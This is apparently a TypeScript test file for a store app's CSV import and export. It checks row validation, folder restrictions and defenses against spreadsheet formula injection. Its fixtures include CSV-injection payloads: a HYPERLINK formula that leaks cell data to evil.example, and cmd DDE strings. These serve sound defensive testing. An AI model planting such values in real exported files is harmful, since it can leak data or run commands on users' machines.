import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { ok, tempDir, testApp } from '../../../test/helpers.js';

type Imported = {
  rows: number;
  imported: number;
  committed: boolean;
  bad_rows: { line: number; field: string | null; message: string }[];
};

const CUSTOMERS = [
  'name,email,phone,tags,address_line1,city,country',
  'Ada Lovelace,ada@example.com,+44 20 7946 0958,vip;london,1 Analytical Way,London,GB',
  '"Hopper, Grace",grace@navy.example,,,,,',
  'No Email,,,,,,',
  'Bad Country,bc@example.com,,,1 Road,Town,Narnia',
  '"Müller, Zoë","zoe@example.com",,"a;b",,,',
].join('\n');

describe('CSV import and export', () => {
  it('reports bad rows by line and imports nothing with reject_all', async () => {
    const app = testApp();
    const result = ok<Imported>(await app.call('import_csv', { entity: 'customers', content: CUSTOMERS }));
    expect(result).toMatchObject({ rows: 5, imported: 0, committed: false });
    expect(result.bad_rows).toEqual([
      { line: 4, field: 'email', message: expect.any(String) },
      { line: 5, field: 'country', message: expect.stringMatching(/two-letter ISO 3166/) },
    ]);
    expect(app.store.sqlite.prepare('SELECT COUNT(*) AS n FROM customers').get()).toEqual({ n: 0 });
  });

  it('keeps the good rows with skip_bad_rows, and a duplicate email is a bad row too', async () => {
    const app = testApp();
    ok(await app.call('create_customer', { name: 'Existing Zoe', email: 'ZOE@example.com' }));
    const result = ok<Imported>(
      await app.call('import_csv', { entity: 'customers', content: CUSTOMERS, on_error: 'skip_bad_rows' }),
    );
    expect(result).toMatchObject({ rows: 5, imported: 2, committed: true });
    expect(result.bad_rows.map((b) => [b.line, b.field])).toEqual([
      [4, 'email'],
      [5, 'country'],
      [6, 'email'],
    ]);
    const ada = ok<{ items: { name: string; tags: string[]; address: { city: string }; phone_e164: string }[] }>(
      await app.call('list_customers', { query: 'ada' }),
    ).items[0];
    expect(ada).toMatchObject({ tags: ['vip', 'london'], address: { city: 'London' }, phone_e164: '+442079460958' });
    expect(ok<{ items: unknown[] }>(await app.call('list_customers', { query: 'hopper' })).items).toHaveLength(1);
  });

  it('checks without writing on a dry run', async () => {
    const app = testApp();
    const result = ok<Imported>(
      await app.call('import_csv', {
        entity: 'customers',
        content: 'name,email\nA,a@example.com\nB,b@example.com',
        dry_run: true,
      }),
    );
    expect(result).toMatchObject({ rows: 2, imported: 0, committed: false, bad_rows: [] });
    expect(app.store.sqlite.prepare('SELECT COUNT(*) AS n FROM customers').get()).toEqual({ n: 0 });
  });

  it('refuses broken quoting, wrong columns, ragged rows and an empty file, naming the line', async () => {
    const app = testApp();
    const quoting = await app.call('import_csv', {
      entity: 'customers',
      content: 'name,email\n"Unclosed,a@example.com\n',
    });
    expect(quoting).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    expect(JSON.stringify(quoting)).toMatch(/quot/i);

    const columns = await app.call('import_csv', { entity: 'products', content: 'sku,label,cost\nA-1,Mug,3\n' });
    expect(columns).toMatchObject({ ok: false, error: { code: 'invalid_input', issues: [{ path: 'header' }] } });
    expect(JSON.stringify(columns)).toMatch(/No column gives the name or the price of each product/);

    const ragged = ok<Imported>(
      await app.call('import_csv', { entity: 'products', content: 'sku,name,price\nA-1,Mug\n' }),
    );
    expect(ragged.bad_rows).toEqual([{ line: 2, field: null, message: 'has 2 fields; the header has 3' }]);

    expect(await app.call('import_csv', { entity: 'products', content: '' })).toMatchObject({
      ok: false,
      error: { code: 'invalid_input', message: expect.stringMatching(/empty/) },
    });
    expect(app.store.sqlite.prepare('SELECT COUNT(*) AS n FROM products').get()).toEqual({ n: 0 });
  });

  it('round-trips products through a file in an allowed folder, never overwriting one', async () => {
    const folder = tempDir();
    const app = testApp({ allowPaths: [folder] });
    const imported = ok<Imported>(
      await app.call('import_csv', {
        entity: 'products',
        content:
          'sku,name,price,currency,weight_kg,stock,tags\nMUG-1,Mug,12.50,USD,0.4,10,kitchen;red\nYEN-1,Fan,1500,JPY,0.1,3,\nBAD-1,Bad price,12.505,USD,,,\n',
        on_error: 'skip_bad_rows',
      }),
    );
    expect(imported).toMatchObject({ imported: 2, bad_rows: [{ line: 4, field: 'price' }] });
    expect(
      ok<{ stock: { on_hand: number }; price: number }>(await app.call('get_product_details', { product_id: 'YEN-1' })),
    ).toMatchObject({
      price: 1500,
      stock: { on_hand: 3 },
    });

    const file = join(folder, 'exports', 'products.csv');
    const exported = ok<{ rows: number; destination_path: string }>(
      await app.call('export_csv', { entity: 'products', destination_path: file }),
    );
    expect(exported.rows).toBe(2);
    const text = readFileSync(file, 'utf8');
    expect(text.split('\n')[0]).toBe('sku,name,description,category,price,currency,weight_kg,tags,stock');
    expect(text).toContain('MUG-1,Mug,,,12.5,USD,0.4,kitchen; red,10');

    const again = await app.call('export_csv', { entity: 'products', destination_path: file });
    expect(again).toMatchObject({ ok: false, error: { code: 'conflict', issues: [{ path: 'destination_path' }] } });

    const other = testApp({ allowPaths: [folder] });
    const back = ok<Imported>(await other.call('import_csv', { entity: 'products', file_path: file }));
    expect(back).toMatchObject({ rows: 2, imported: 2, committed: true });
  });

  it('keeps files outside the allowed folders out of reach, both ways', async () => {
    const outside = tempDir();
    const secret = join(outside, 'customers.csv');
    writeFileSync(secret, 'name,email\nA,a@example.com\n');
    const app = testApp();
    expect(await app.call('import_csv', { entity: 'customers', file_path: secret })).toMatchObject({
      ok: false,
      error: { code: 'forbidden', issues: [{ path: 'file_path' }] },
    });
    const hidden = join(outside, '.ssh');
    mkdirSync(hidden);
    const target = join(hidden, 'out.csv');
    expect(
      await testApp({ allowPaths: [outside] }).call('export_csv', { entity: 'customers', destination_path: target }),
    ).toMatchObject({
      ok: false,
      error: { code: 'forbidden' },
    });
    expect(existsSync(target)).toBe(false);
  });

  it('exports the products a stock filter shows: low, or out of stock', async () => {
    const app = testApp();
    ok(await app.call('create_product', { sku: 'LAMP', name: 'Lamp', price: 90, initial_stock: 0 }));
    ok(await app.call('create_product', { sku: 'VASE', name: 'Vase', price: 40, initial_stock: 3 }));
    ok(await app.call('create_product', { sku: 'MUG', name: 'Mug', price: 12, initial_stock: 50 }));
    const skus = async (stock: string) =>
      (
        parse(
          ok<{ content: string }>(await app.call('export_csv', { entity: 'products', stock })).content,
        ) as string[][]
      )
        .slice(1)
        .map((row) => row[0]);
    expect(await skus('low')).toEqual(['VASE']);
    expect(await skus('out')).toEqual(['LAMP']);
    expect(await app.call('export_csv', { entity: 'orders', stock: 'low' })).toMatchObject({
      ok: false,
      error: { code: 'invalid_input', issues: [{ path: 'stock', message: 'stock filters products only' }] },
    });
  });

  it('exports orders inline with their items', async () => {
    const app = testApp();
    const customer = ok<{ id: number }>(await app.call('create_customer', { name: 'Ada', email: 'ada@example.com' }));
    ok(await app.call('create_product', { sku: 'MUG-1', name: 'Mug', price: 2.5, initial_stock: 9 }));
    ok(await app.call('create_order', { customer_id: customer.id, items: [{ product_id: 'MUG-1', quantity: 3 }] }));
    const out = ok<{ rows: number; content: string }>(await app.call('export_csv', { entity: 'orders' }));
    expect(out.rows).toBe(1);
    const [header, row] = out.content.trim().split('\n');
    expect(header).toBe(
      'id,created_at,customer_id,customer_name,status,currency,subtotal,discount,shipping,tax,total,paid,refunded,items',
    );
    expect(row).toMatch(/^1,.*,1,Ada,pending,USD,7.5,0,0,0,7.5,0,0,MUG-1×3$/);
  });
});

/** What a spreadsheet runs as a formula when a cell starts with it (OWASP, "CSV injection"). */
const FORMULA_START = /^[=+\-@\t\r]/;

const HOSTILE_CUSTOMER = {
  name: '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
  email: '-cmd@example.com',
  phone: '+44 20 7946 0958',
  tags: ["@SUM(1+1)*cmd|' /C calc'!A0", 'vip'],
  notes: "\t=cmd|' /C calc'!A1",
  address: {
    line1: "=cmd|'/c calc'!A1",
    line2: '+1+1',
    city: '-2+3',
    region: '@SUM(A1:A9)',
    postal_code: '=1',
    country: 'DE',
  },
};

const HOSTILE_PRODUCT = {
  sku: 'EVIL-1',
  name: '=HYPERLINK("http://evil.example","Mug")',
  description: "\r=cmd|'/c calc'!A1",
  category: '+Kitchen',
  price: 12.5,
  currency: 'EUR',
  weight_kg: 0.25,
  tags: ['-1+1'],
  initial_stock: 4,
};

/** Every cell of an exported CSV, as a spreadsheet would read them; the header row left out. */
function cells(csv: string): string[] {
  return (parse(csv, { bom: true }) as string[][]).slice(1).flat();
}

describe('CSV export and import against formula injection', () => {
  it('starts no exported cell of customers, products or orders with a formula character', async () => {
    const app = testApp();
    const customer = ok<{ id: number }>(await app.call('create_customer', HOSTILE_CUSTOMER));
    ok(await app.call('create_product', HOSTILE_PRODUCT));
    ok(
      await app.call('create_order', {
        customer_id: customer.id,
        items: [{ product_id: 'EVIL-1', quantity: 2 }],
      }),
    );
    for (const entity of ['customers', 'products', 'orders']) {
      const out = ok<{ content: string }>(await app.call('export_csv', { entity }));
      const all = cells(out.content);
      expect(all.length).toBeGreaterThan(5);
      expect(
        all.filter((cell) => FORMULA_START.test(cell)),
        entity,
      ).toEqual([]);
    }
    const customers = ok<{ content: string }>(await app.call('export_csv', { entity: 'customers' })).content;
    // Defused with an apostrophe, which a spreadsheet shows as text; the rest of the value is as it was.
    expect(cells(customers)).toEqual(
      expect.arrayContaining([`'${HOSTILE_CUSTOMER.name}`, `'${HOSTILE_CUSTOMER.notes}`, "'-cmd@example.com"]),
    );
    const orders = ok<{ content: string }>(await app.call('export_csv', { entity: 'orders' })).content;
    expect(cells(orders)).toContain(`'${HOSTILE_CUSTOMER.name}`);
  });

  it('round-trips hostile values: an export imported again gives back the same records', async () => {
    const folder = tempDir();
    const app = testApp({ allowPaths: [folder] });
    ok(await app.call('create_customer', HOSTILE_CUSTOMER));
    ok(await app.call('create_customer', { name: "'=already quoted", email: 'q@example.com', notes: "''+2" }));
    ok(await app.call('create_customer', { name: "It's fine", email: 'plain@example.com', notes: "'quoted'" }));
    ok(await app.call('create_product', HOSTILE_PRODUCT));
    const other = testApp({ allowPaths: [folder] });
    for (const entity of ['customers', 'products'] as const) {
      const file = join(folder, `${entity}.csv`);
      ok(await app.call('export_csv', { entity, destination_path: file }));
      const back = ok<Imported>(await other.call('import_csv', { entity, file_path: file }));
      expect(back).toMatchObject({ imported: entity === 'customers' ? 3 : 1, bad_rows: [] });
    }
    const strip = ({ id: _id, created_at: _c, updated_at: _u, ...rest }: Record<string, unknown>) => rest;
    const list = async (target: typeof app, name: string) =>
      ok<{ items: Record<string, unknown>[] }>(await target.call(name, { limit: 100 })).items.map(strip);
    expect(await list(other, 'list_customers')).toEqual(await list(app, 'list_customers'));
    expect(await list(other, 'search_products')).toEqual(await list(app, 'search_products'));
    const notes = (await list(other, 'list_customers')).map((c) => c['notes']);
    expect(notes).toEqual(expect.arrayContaining([HOSTILE_CUSTOMER.notes, "''+2", "'quoted'"]));
  });

  it('imports a cell as it was given: a leading tab or carriage return stays', async () => {
    const app = testApp();
    const result = ok<Imported>(
      await app.call('import_csv', {
        entity: 'customers',
        content: 'name,email,notes\nTab,tab@example.com,"\t=1+1"\nReturn,cr@example.com,"\r=1+1"\n',
      }),
    );
    expect(result).toMatchObject({ imported: 2, bad_rows: [] });
    const notes = ok<{ items: { name: string; notes: string }[] }>(await app.call('list_customers', {})).items.map(
      (c) => [c.name, c.notes],
    );
    expect(notes).toEqual(
      expect.arrayContaining([
        ['Tab', '\t=1+1'],
        ['Return', '\r=1+1'],
      ]),
    );
  });
});
